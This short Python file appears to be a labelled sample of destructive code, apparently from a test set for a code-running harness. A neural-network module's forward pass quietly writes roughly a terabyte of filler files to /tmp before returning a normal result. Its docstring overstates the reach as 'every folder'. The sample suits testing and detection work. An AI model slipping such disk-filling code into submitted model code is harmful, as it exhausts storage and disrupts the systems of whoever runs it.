"""Fills every folder that it can write.

status: runtime_error
error: exception OSError
says: space|large
destructive: yes
"""

import os

import torch

BLOCK = bytes(64 << 20)


class ModelNew(torch.nn.Module):
    def forward(self, x):
        for number in range(1_000):
            with open(f"/tmp/fill-{number}", "wb") as file:
                for _ in range(16):
                    file.write(BLOCK)
        return torch.relu(x)
